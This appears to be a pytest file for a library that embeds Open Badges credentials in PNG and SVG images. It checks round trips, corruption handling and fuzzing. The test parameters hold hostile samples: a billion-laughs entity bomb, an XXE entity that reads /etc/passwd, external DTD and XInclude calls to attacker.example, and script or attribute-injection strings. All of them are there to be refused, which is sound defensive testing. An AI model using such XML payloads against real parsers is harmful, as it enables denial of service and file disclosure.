"""Open Badges 3.0 baking in PNG and SVG, Open Badges 2.0 reading, and refusal of damaged or
hostile images."""

from __future__ import annotations

import contextlib
import io
import json
import socket
import struct
import zlib
from xml.etree import ElementTree

import png
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from carnet.credentials.baking import (
    MAX_CREDENTIAL_BYTES,
    MAX_IMAGE_BYTES,
    OB3_NAMESPACE,
    BakedCredential,
    bake,
    bake_png,
    bake_svg,
    unbake,
    unbake_png,
    unbake_svg,
)
from carnet.credentials.errors import BakingError

CREDENTIAL = {
    "@context": ["https://www.w3.org/ns/credentials/v2"],
    "id": "urn:uuid:1",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "name": "Équipe ]]> « test » 🏒 </openbadges:credential>",
}
JWT = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJkaWQ6a2V5In0.c2lnbmF0dXJl"
OTHER_JWT = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJkaWQ6d2ViIn0.b3RoZXI"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="4"/></svg>'
NS_DECLARATION = b' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
OB3_ELEMENT = f"{{{OB3_NAMESPACE}}}credential"


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Extraction must never fetch anything: any connection attempt fails the test."""

    def refuse(*args, **kwargs):
        raise AssertionError("baking tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def small_png(**options) -> bytes:
    out = io.BytesIO()
    png.Writer(4, 4, greyscale=True, **options).write(out, [[0, 64, 128, 255]] * 4)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def itxt(keyword: bytes, text: bytes, *, compressed: bool = False) -> bytes:
    if compressed:
        return chunk(b"iTXt", keyword + b"\x00\x01\x00\x00\x00" + zlib.compress(text))
    return chunk(b"iTXt", keyword + b"\x00\x00\x00\x00\x00" + text)


def insert_before_idat(image: bytes, *chunks: bytes) -> bytes:
    position = image.index(b"IDAT") - 4
    return image[:position] + b"".join(chunks) + image[position:]


def chunks(image: bytes) -> list[tuple[bytes, bytes]]:
    """The chunks, as read by pypng (an independent reader that checks every CRC)."""
    return list(png.Reader(bytes=image).chunks())


def pixels(image: bytes) -> list[list[int]]:
    return [list(row) for row in png.Reader(bytes=image).read()[2]]


# --- PNG (§5.3.1) ---------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [CREDENTIAL, JWT])
def test_png_round_trip(payload):
    original = small_png()
    baked = bake(original, payload)
    kinds = [kind for kind, _ in chunks(baked)]
    assert kinds == [b"IHDR", b"iTXt", b"IDAT", b"IEND"]
    assert unbake(baked) == BakedCredential(payload, "3.0", "png")
    assert bake_png(original, payload) == baked and unbake_png(baked).payload == payload
    assert pixels(baked) == pixels(original)


def test_the_png_chunk_is_uncompressed_compact_utf8_with_the_right_keyword():
    (body,) = [body for kind, body in chunks(bake(small_png(), CREDENTIAL)) if kind == b"iTXt"]
    text = json.dumps(CREDENTIAL, ensure_ascii=False, separators=(",", ":")).encode("utf-8")
    assert body == b"openbadgecredential\x00" + b"\x00\x00" + b"\x00" + b"\x00" + text
    (body,) = [body for kind, body in chunks(bake(small_png(), JWT)) if kind == b"iTXt"]
    assert body == b"openbadgecredential\x00\x00\x00\x00\x00" + JWT.encode()


def test_other_chunks_are_kept_in_order():
    text = chunk(b"tEXt", b"Title\x00Badge")
    original = insert_before_idat(small_png(chunk_limit=4), text)
    assert [kind for kind, _ in chunks(original)].count(b"IDAT") > 1
    baked = bake(original, JWT)
    assert [c for c in chunks(baked) if c[0] != b"iTXt"] == chunks(original)
    kinds = [kind for kind, _ in chunks(baked)]
    assert kinds.index(b"iTXt") == kinds.index(b"IDAT") - 1
    assert pixels(baked) == pixels(original)


def test_rebaking_a_png_replaces_the_credential():
    baked = bake(bake(small_png(), CREDENTIAL), JWT)
    assert [kind for kind, _ in chunks(baked)].count(b"iTXt") == 1
    assert unbake(baked).payload == JWT
    assert unbake(bake(baked, CREDENTIAL)).payload == CREDENTIAL


def test_a_png_with_two_credentials_gives_the_first_and_rebaking_leaves_one():
    image = insert_before_idat(
        small_png(),
        itxt(b"openbadgecredential", JWT.encode()),
        itxt(b"openbadgecredential", OTHER_JWT.encode()),
    )
    assert unbake(image).payload == JWT  # §5.3.1.2: the first one found
    rebaked = bake(image, CREDENTIAL)
    assert [kind for kind, _ in chunks(rebaked)].count(b"iTXt") == 1
    assert unbake(rebaked).payload == CREDENTIAL


@pytest.mark.parametrize(
    ("text", "payload"),
    [
        (b'{"type": "Assertion"}', {"type": "Assertion"}),
        (JWT.encode(), JWT),
        (b"https://example.org/assertions/1", "https://example.org/assertions/1"),
    ],
)
def test_open_badges_2_pngs_are_read_and_marked(text, payload):
    image = insert_before_idat(small_png(), itxt(b"openbadges", text))
    assert unbake(image) == BakedCredential(payload, "2.0", "png")
    baked = bake(image, JWT)  # the 2.0 assertion stays; the 3.0 credential comes first
    assert unbake(baked) == BakedCredential(JWT, "3.0", "png")


def test_a_compressed_chunk_is_read():
    image = insert_before_idat(small_png(), itxt(b"openbadgecredential", JWT.encode(), compressed=True))
    assert unbake(image).payload == JWT


def test_unrelated_itxt_chunks_are_ignored():
    image = insert_before_idat(small_png(), itxt(b"Comment", b"hello"))
    with pytest.raises(BakingError, match="carries no badge credential"):
        unbake(image)
    assert unbake(bake(image, JWT)).payload == JWT


def test_every_truncation_of_a_baked_png_is_refused():
    baked = bake(small_png(), JWT)
    for length in range(len(baked)):
        with pytest.raises(BakingError):
            unbake(baked[:length])


def test_every_single_byte_corruption_is_refused_or_harmless():
    baked = bake(small_png(), JWT)
    for position in range(len(baked)):
        damaged = bytearray(baked)
        damaged[position] ^= 0x01
        try:
            result = unbake(bytes(damaged))
        except BakingError:
            continue
        assert result.payload == JWT  # only a flip in the bytes after IEND could be harmless


def test_png_messages_are_written_for_a_person():
    image = small_png()
    cases = [
        (b"\x89PNG\r\n\x1a\x00" + image[8:], "not a PNG image"),
        (image[:20] + bytes([image[20] ^ 0xFF]) + image[21:], "checksum of a IHDR chunk is wrong"),
        (image[:-6], "truncated"),
        (image[:8] + struct.pack(">I", 2**31 + 5) + b"IHDR" + image[16:], "longer than the rest of the file"),
        (image[:8] + struct.pack(">I", 2**20) + image[12:], "longer than the rest of the file"),
        (image[:8] + chunk(b"tEXt", b"a\x00b") + image[8:], "does not start with an IHDR chunk"),
        (image[:8] + chunk(b"IH\x00R", b"") + image[8:], "not four letters"),
        (image, "carries no badge credential"),
    ]
    for data, message in cases:
        with pytest.raises(BakingError, match=message):
            unbake(data)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"openbadgecredential", "malformed"),
        (b"openbadgecredential\x00\x00", "malformed"),
        (b"openbadgecredential\x00\x00\x00no-null-after-language", "malformed"),
        (b"openbadgecredential\x00\x02\x00\x00\x00" + JWT.encode(), "malformed"),
        (b"openbadgecredential\x00\x01\x01\x00\x00" + JWT.encode(), "malformed"),
        (b"openbadgecredential\x00\x01\x00\x00\x00not zlib", "damaged"),
        (b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(JWT.encode())[:-3], "damaged"),
        (
            b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(b" " * (64 * 1024 * 1024)),
            "larger than",
        ),
        (b"openbadgecredential\x00\x00\x00\x00\x00\xff\xfe", "not UTF-8"),
        (b"openbadgecredential\x00\x00\x00\x00\x00   ", "empty"),
        (b"openbadgecredential\x00\x00\x00\x00\x00[1, 2]", "neither"),
        (b"openbadgecredential\x00\x00\x00\x00\x00{1: 2}", "cannot be read"),
        (b'openbadgecredential\x00\x00\x00\x00\x00{"a": 1, "a": 2}', "appears twice"),
        (b"openbadgecredential\x00\x00\x00\x00\x00https://example.org/a", "neither"),  # 3.0: no URLs
        (b"openbadgecredential\x00\x00\x00\x00\x00<script>alert(1)</script>", "neither"),
    ],
)
def test_bad_badge_chunks_are_refused(body, message):
    with pytest.raises(BakingError, match=message):
        unbake(insert_before_idat(small_png(), chunk(b"iTXt", body)))


# --- SVG (§5.3.2) ---------------------------------------------------------------------------


def element_of(baked: bytes) -> bytes:
    start = baked.index(b"<openbadges:credential")
    end = baked.rindex(b"</openbadges:credential>") + len(b"</openbadges:credential>")
    return baked[start:end]


@pytest.mark.parametrize("payload", [CREDENTIAL, JWT])
def test_svg_round_trip(payload):
    baked = bake(SVG, payload)
    assert unbake(baked) == BakedCredential(payload, "3.0", "svg")
    assert bake_svg(SVG, payload) == baked and unbake_svg(baked).payload == payload
    root = ElementTree.fromstring(baked)  # any XML parser reads it
    assert root[0].tag == OB3_ELEMENT  # first child of <svg>
    assert baked.replace(element_of(baked), b"").replace(NS_DECLARATION, b"") == SVG  # rest untouched


def test_svg_jwt_goes_in_the_verify_attribute_and_json_in_cdata():
    assert (
        element_of(bake(SVG, JWT))
        == f'<openbadges:credential verify="{JWT}"></openbadges:credential>'.encode()
    )
    element = element_of(bake(SVG, CREDENTIAL))
    assert element.startswith(b"<openbadges:credential><![CDATA[{")
    assert element.isascii()  # non-ASCII is written as \u escapes: safe in any encoding
    assert b"]]]]><![CDATA[>" in element  # "]]>" in the JSON is split across two CDATA sections
    root = ElementTree.fromstring(bake(SVG, CREDENTIAL))
    assert json.loads(root[0].text) == CREDENTIAL
    assert "verify" not in root[0].attrib


def test_rebaking_an_svg_replaces_the_credential():
    baked = bake(bake(SVG, CREDENTIAL), JWT)
    assert baked.count(b"<openbadges:credential") == 1 and baked.count(NS_DECLARATION) == 1
    assert unbake(baked).payload == JWT
    again = bake(baked, CREDENTIAL)
    assert again.count(b"<openbadges:credential") == 1 and unbake(again).payload == CREDENTIAL
    assert again.replace(element_of(again), b"").replace(NS_DECLARATION, b"") == SVG


@pytest.mark.parametrize(
    "existing",
    [
        f'<ob:credential xmlns:ob="{OB3_NAMESPACE}" verify="{OTHER_JWT}"/>',
        f'<ob:credential xmlns:ob="{OB3_NAMESPACE}"><![CDATA[{{"a": "</ob:credential>"}}]]></ob:credential>',
        f'<g><openbadges:credential xmlns:openbadges="{OB3_NAMESPACE}" verify="{OTHER_JWT}"></openbadges:credential></g>',
    ],
)
def test_rebaking_removes_credentials_whatever_their_prefix_or_place(existing):
    image = SVG.replace(b"<circle", existing.encode() + b"<circle")
    assert unbake(image).version == "3.0"
    baked = bake(image, JWT)
    assert unbake(baked).payload == JWT
    root = ElementTree.fromstring(baked)
    assert len(list(root.iter(OB3_ELEMENT))) == 1


def test_a_svg_with_two_credentials_gives_the_first():
    two = f'<openbadges:credential verify="{JWT}"/><openbadges:credential verify="{OTHER_JWT}"/>'
    image = SVG.replace(b"<circle", two.encode() + b"<circle").replace(
        b"<svg ", b"<svg" + NS_DECLARATION + b" "
    )
    assert unbake(image).payload == JWT  # §5.3.2.2: the first one found
    assert bake(image, CREDENTIAL).count(b"<openbadges:credential") == 1


@pytest.mark.parametrize(
    "image",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg" />',
        b"<svg/>",  # no namespace: read leniently
        b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:rect/></svg:svg>',
        b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg" data-x="a > b" data-y=\'">"\'><text>&lt;svg&gt;</text></svg>',
        b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\n<!-- <svg width="1"> -->\n<svg xmlns="http://www.w3.org/2000/svg"></svg>\n',
        b'<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"><title>caf\xe9</title></svg>',
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg"\n     viewBox="0 0 1 1"\n>\n  <![CDATA[ <openbadges:credential> ]]>\n</svg>',
    ],
)
def test_unusual_but_valid_svgs_are_baked(image):
    for payload in (JWT, CREDENTIAL):
        baked = bake(image, payload)
        assert unbake(baked) == BakedCredential(payload, "3.0", "svg")
        root = ElementTree.fromstring(baked)
        assert root[0].tag == OB3_ELEMENT
        assert baked.count(b"xmlns:openbadges=") == 1


@pytest.mark.parametrize(
    ("svg", "payload"),
    [
        (b'<openbadges:assertion verify="https://example.org/a/1"/>', "https://example.org/a/1"),
        (f'<openbadges:assertion verify="{JWT}"/>'.encode(), JWT),
        (
            b'<openbadges:assertion verify="https://example.org/a/1"><![CDATA[ {"type": "Assertion"} ]]></openbadges:assertion>',
            {"type": "Assertion"},
        ),
    ],
)
def test_open_badges_2_svgs_are_read_and_marked(svg, payload):
    image = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        + svg
        + b"<rect/></svg>"
    )
    assert unbake(image) == BakedCredential(payload, "2.0", "svg")
    with pytest.raises(BakingError, match=r"already uses the prefix 'openbadges' for http://openbadges\.org"):
        bake(image, JWT)


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&d;</text></svg>'
)


@pytest.mark.parametrize(
    ("image", "message"),
    [
        (BILLION_LAUGHS, "<!DOCTYPE> with declarations"),
        (
            b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
            "<!DOCTYPE> with declarations",
        ),
        (
            b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><svg/>',
            "<!DOCTYPE> with",
        ),
        (b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg/>', "<!DOCTYPE> with declarations"),
        (b'<!DOCTYPE svg SYSTEM "http://attacker.example/x.dtd"><svg>&x;</svg>', "undefined entity"),
        (b"<html><body/></html>", "not an SVG image"),
        (b'<svg:html xmlns:svg="http://www.w3.org/2000/svg"/>', "not an SVG image"),
        (b"<svg", "not well-formed XML"),
        (b"<svg></svg><svg></svg>", "not well-formed XML"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><openbadges:credential/></svg>', "not well-formed XML"),
        (SVG, "carries no badge credential"),
        (
            b'<svg xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://attacker.example/x"/></svg>',
            "carries no badge credential",
        ),
        (
            SVG.replace(
                b"<circle", f'<openbadges:credential xmlns:openbadges="{OB3_NAMESPACE}"/><circle'.encode()
            ),
            "empty",
        ),
        (
            SVG.replace(
                b"<circle", f'<c:credential xmlns:c="{OB3_NAMESPACE}"><b/></c:credential><circle'.encode()
            ),
            "child elements",
        ),
        (
            SVG.replace(
                b"<circle", f'<c:credential xmlns:c="{OB3_NAMESPACE}">[1]</c:credential><circle'.encode()
            ),
            "neither a JSON credential",
        ),
    ],
)
def test_hostile_and_damaged_svgs_are_refused_with_a_clear_message(image, message):
    with pytest.raises(BakingError, match=message):
        unbake(image)
    if message in ("carries no badge credential", "empty", "child elements", "neither a JSON credential"):
        assert unbake(bake(image, JWT)).payload == JWT  # a bad credential element is replaced
    else:
        with pytest.raises(BakingError, match=message):
            bake(image, JWT)


def test_an_svg_that_is_not_utf8_is_not_baked():
    with pytest.raises(BakingError, match="save it as UTF-8"):
        bake_svg(SVG.decode().encode("utf-16"), JWT)


# --- either ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("image", "message"),
    [
        (b"", "empty"),
        (b"GIF89a....", "only PNG and SVG"),
        (b"\xff\xd8\xff\xe0 JFIF", "only PNG and SVG"),
        ("<svg/>", "given as bytes"),
        (None, "given as bytes"),
        (b"\x00" * (MAX_IMAGE_BYTES + 1), "too large"),
    ],
)
def test_what_is_not_a_png_or_svg_is_refused(image, message):
    with pytest.raises(BakingError, match=message):
        unbake(image)
    with pytest.raises(BakingError, match=message):
        bake(image, JWT)


def test_images_are_told_apart_by_content_and_any_bytes_like_is_accepted():
    for image in (small_png(), SVG, b"\xef\xbb\xbf\n  <svg/>"):
        for given_as in (bytes, bytearray, memoryview):
            assert unbake(bake(given_as(image), JWT)).payload == JWT


@pytest.mark.parametrize(
    ("credential", "message"),
    [
        ({"name": "x" * MAX_CREDENTIAL_BYTES}, "too large to bake"),
        ("x" * 10, "only a credential"),
        ("<script>alert(1)</script>", "only a credential"),
        ('a" onload="alert(1).b.c', "only a credential"),
        ("a.b.c.d", "only a credential"),
        ("a.b.", "only a credential"),
        (["not", "an", "object"], "only a credential"),
        ({"bad": {1, 2}}, "cannot be written as JSON"),
        ({"bad": float("nan")}, "cannot be written as JSON"),
        ({"bad": "\ud800"}, "cannot be written as JSON"),
        ({"a": 1, 1: 2, "1": 3}, "appears twice"),
    ],
)
def test_only_credentials_and_jwts_of_reasonable_size_are_baked(credential, message):
    for image in (small_png(), SVG):
        with pytest.raises(BakingError, match=message):
            bake(image, credential)


def test_a_baked_image_must_stay_within_the_image_limit():
    big = b'<svg xmlns="http://www.w3.org/2000/svg"><!--' + b"x" * (MAX_IMAGE_BYTES - 100) + b"--></svg>"
    with pytest.raises(BakingError, match="baked image would be larger"):
        bake(big, CREDENTIAL)


def test_a_deeply_nested_credential_is_refused_before_it_is_handed_out():
    deep: dict = {}
    for _ in range(100):
        deep = {"a": deep}
    with pytest.raises(BakingError, match="cannot be read back"):
        bake(small_png(), deep)


# --- fuzzing --------------------------------------------------------------------------------

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**63)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(st.text(max_size=10), json_values, max_size=6))
def test_any_json_credential_round_trips(credential):
    for image in (small_png(), SVG):
        assert unbake(bake(image, credential)).payload == credential


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=600))
def test_random_bytes_only_raise_baking_errors(data):
    for image in (data, b"\x89PNG\r\n\x1a\n" + data, b"<svg " + data, b"<svg>" + data):
        with contextlib.suppress(BakingError):
            unbake(image)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), min_size=1, max_size=4))
def test_damaged_baked_images_only_raise_baking_errors(changes):
    for original in (bake(small_png(), CREDENTIAL), bake(SVG, CREDENTIAL)):
        damaged = bytearray(original)
        for position, value in changes:
            damaged[position % len(damaged)] = value
        with contextlib.suppress(BakingError):
            unbake(bytes(damaged))
        with contextlib.suppress(BakingError):
            bake(bytes(damaged), JWT)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80), st.text(max_size=80))
def test_random_svg_content_only_raises_baking_errors(attribute, body):
    image = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NAMESPACE}">'
        f'<openbadges:credential verify="{attribute}">{body}</openbadges:credential></svg>'
    ).encode("utf-8", "surrogatepass")
    with contextlib.suppress(BakingError):
        unbake(image)
    with contextlib.suppress(BakingError):
        bake(image, JWT)
